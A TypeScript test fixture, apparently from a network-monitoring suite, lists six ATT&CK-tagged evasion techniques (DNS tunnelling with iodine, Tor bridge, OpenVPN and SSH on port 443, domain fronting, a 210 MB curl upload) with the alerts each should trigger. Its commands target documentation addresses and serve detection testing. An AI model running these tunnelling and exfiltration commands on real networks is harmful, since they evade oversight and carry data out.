import { elsewhere, passes, type Attack } from './attack.ts'

const ssh = 'ssh -F ssh.conf'
const allowed = passes('the policy allows it')
const everywhere = { under: 'watched', endpoint: allowed, gateway: allowed, run: allowed } as const

/** What is let through is seen all the same. */
export const WATCHED: readonly Attack[] = [
  {
    technique: 'T1572 Protocol Tunneling',
    what: 'IP inside DNS',
    tool: 'iodine',
    attempt: `exec unshare --mount sh -c 'mount -t tmpfs tmpfs /dev/net && mknod /dev/net/tun c 10 200 &&
      (iodine -f -r -P secret 198.51.100.53 t.tunnel.test & for try in $(seq 40); do sleep 0.2; ping -c 1 -W 1 10.99.0.1 && break; done
      ping -c 60 -i 0.05 -s 300 10.99.0.1; kill $!)'`,
    through: { says: /60 packets transmitted, [1-9]\d* received/ },
    flows: /tunnel\.test/,
    told: 'dns-tunnel',
    ...everywhere,
    run: elsewhere('an ordinary user may not make the device that it needs'),
  },
  {
    technique: 'T1090.003 Multi-hop Proxy',
    what: 'a bridge of Tor on port 443',
    tool: 'tor',
    attempt: 'rm -rf tor-watched; exec tor -f tor-client --DataDirectory tor-watched',
    through: { says: /handshake_done|onehop_create/ },
    flows: /^198\.51\.100\.63 443$/,
    told: 'name-mismatch',
    ...everywhere,
  },
  {
    technique: 'T1572 Protocol Tunneling',
    what: 'OpenVPN over TCP on port 443',
    tool: 'openvpn',
    attempt:
      'openvpn --tls-client --proto tcp-client --remote 198.51.100.62 443 --nobind --dev null --ca cert.pem --cert cert.pem --key key.pem',
    through: { says: /TLS: Initial packet|Peer Connection Initiated/ },
    flows: /^198\.51\.100\.62 443$/,
    told: 'anonymiser',
    ...everywhere,
  },
  {
    technique: 'T1571 Non-Standard Port',
    what: 'SSH on port 443',
    tool: 'openssh',
    attempt: `${ssh} -p 443 198.51.100.61 cat "$PWD/secret"`,
    through: { says: /^canary$/m },
    flows: /^198\.51\.100\.61 443$/,
    told: 'protocol-mismatch',
    ...everywhere,
  },
  {
    technique: 'T1090.004 Domain Fronting',
    what: 'a server name, to an address that was an answer for another',
    tool: 'curl',
    attempt:
      'curl -ksS -m 5 https://denied.test/ >/dev/null; curl -ksS -m 5 --connect-to allowed.test:443:denied.test:443 https://allowed.test/',
    through: { says: /hello from/ },
    flows: /^(198\.51\.100\.20|2001:db8:1::20) 443$/,
    told: 'name-mismatch',
    ...everywhere,
  },
  {
    technique: 'T1048.003 Exfiltration Over Unencrypted Non-C2 Protocol',
    what: 'an upload by somebody who never sent much, of 210 MB',
    tool: 'curl',
    attempt: `head -c 210000000 /dev/zero | curl -sS -m 15 -X POST -T - -H 'Expect:' http://198.51.100.50/`,
    through: { says: /^210000000$/m },
    flows: /^198\.51\.100\.50 80$/,
    told: 'upload-volume',
    ...everywhere,
    run: elsewhere('its records have no octets'),
  },
]
